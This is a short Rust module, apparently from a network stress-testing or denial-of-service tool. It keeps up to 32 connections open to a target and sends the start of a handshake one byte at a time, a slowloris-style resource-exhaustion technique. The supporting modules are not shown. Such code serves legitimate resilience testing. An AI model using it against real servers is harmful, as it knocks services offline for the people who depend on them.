//! Connections that send the beginning of a handshake one byte at a time.

use std::time::Duration;

use super::connections::Connections;
use super::target::{Target, Victim};
use crate::outcome::Outcome;
use crate::stop_signal::StopSignal;

const PAUSE: Duration = Duration::from_millis(100);
const COUNT: usize = 32;

pub fn run(stop: &StopSignal, target: &Target, victim: Victim, beginning: &[u8]) -> Outcome {
    let mut connections = Connections::default();
    // Number of bytes sent by each connection.
    let mut sent = Vec::new();
    while stop.sleep(PAUSE) {
        for closed in connections.reap() {
            sent.remove(closed);
        }
        while connections.count() < COUNT && connections.open(target, victim) {}
        connections.send_byte_each(beginning, &mut sent);
    }
    Outcome::new(connections.closed + connections.failed, connections.text())
}
